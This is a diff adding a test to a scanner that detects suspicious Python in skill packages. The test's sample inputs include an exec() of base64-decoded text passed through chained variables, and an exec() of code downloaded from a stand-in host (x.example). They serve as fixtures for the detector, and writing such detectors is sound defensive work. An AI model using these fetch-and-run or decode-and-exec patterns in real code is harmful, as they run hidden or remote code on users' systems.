@@ -160,3 +160,21 @@ def test_hidden_element_gate_never_hides_an_element(text):
 
     if not scan_context.Context(text, "SKILL.md", "markdown").may_hold(judge._HIDDEN_ELEMENT_WORDS):
         assert judge.HIDDEN_ELEMENT.search(text) is None
+
+
+def test_python_facts_follow_names_through_two_passes():
+    """The assignment passes skip what cannot change (no decoder or download in the script, an assignment already
+    found): a name tainted through another assigned later in walk order is still followed."""
+    from skillyard.format.scan.read_python import analyse
+
+    chained = ("import base64\n"
+               "def run():\n"
+               "    exec(step)\n"
+               "step = code.strip()\n"
+               "code = base64.b64decode(blob).decode()\n")
+    assert [what for _, what in analyse(chained).decode_exec] == ["exec() of decoded or unscrambled text"]
+    fetched = "import urllib.request as u\nbody = u.urlopen('https://x.example/p').read()\nexec(body)\n"
+    assert [what for _, what in analyse(fetched).fetch_exec] == ["exec() of code downloaded at run time"]
+    plain = "import json\ncode = json.dumps({})\nexec(code)\n"
+    facts = analyse(plain)
+    assert facts.decode_exec == [] and facts.fetch_exec == []
